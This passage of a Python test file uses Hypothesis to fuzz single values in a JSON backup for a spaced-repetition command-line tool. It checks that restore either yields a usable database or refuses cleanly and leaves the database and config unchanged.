    if isinstance(value, str) and len(value) == 10 and value[4:5] == "-":
        return st.dates(date(1960, 1, 1), date(2250, 1, 1)).map(date.isoformat)
    if isinstance(value, str) and value[10:11] == "T":
        return st.datetimes(datetime(1960, 1, 1), datetime(2150, 1, 1),
                            timezones=st.none() | st.just(UTC)).map(datetime.isoformat)
    return JSON_VALUES


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path of every value inside a JSON document, containers included."""
    items = (value.items() if isinstance(value, dict)
             else enumerate(value) if isinstance(value, list) else ())
    for key, inner in items:
        yield (*path, key)
        yield from places(inner, (*path, key))


def leaves(value: Any) -> Iterator[Any]:
    if isinstance(value, dict | list):
        for inner in value.values() if isinstance(value, dict) else value:
            yield from leaves(inner)
    else:
        yield value


def replaced(data: Any, path: tuple[Any, ...], value: Any) -> Any:
    changed = copy.deepcopy(data)
    parent = changed
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return changed


@settings(max_examples=150, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data())
def test_any_one_value_changed_restores_usably_or_changes_nothing(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path,
        data: st.DataObject) -> None:
    """Whatever one value of a backup becomes, the restore gives a database every command
    can read, or refuses in one line and leaves the database and config.toml as they were."""
    database = srs_home / "data" / "srs.db"
    config = srs_home / "config" / "config.toml"
    original = write_backup(tmp_path / "backup.json", backup)
    path = data.draw(st.sampled_from(sorted(places(backup), key=str)), label="path")
    current = backup
    for key in path:
        current = current[key]
    value = data.draw(JSON_VALUES | st.sampled_from(list(leaves(backup))) | like(current),
                      label="value")
    flags = data.draw(st.sampled_from([(), ("--with-config",)]), label="flags")
    changed = write_backup(tmp_path / "changed.json", replaced(backup, path, value))
    before, kept = sql_dump(database), config.read_bytes()
    result = run("restore", str(changed), "--replace", *flags)
    event("restored" if result.exit_code == 0 else "refused")
    if result.exit_code == 0:
        for command in ("cards", "today", "stats"):
            used = run(command, "--json")
            assert used.exit_code == 0, (command, used.output)
            json.loads(used.stdout)
        config.write_bytes(kept)
        assert run("restore", str(original), "--replace").exit_code == 0
        return
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    assert result.stderr.startswith(REFUSALS), result.stderr  # not "internal error"
    assert result.stderr.count("\n") == 1
    assert sql_dump(database) == before
    assert config.read_bytes() == kept
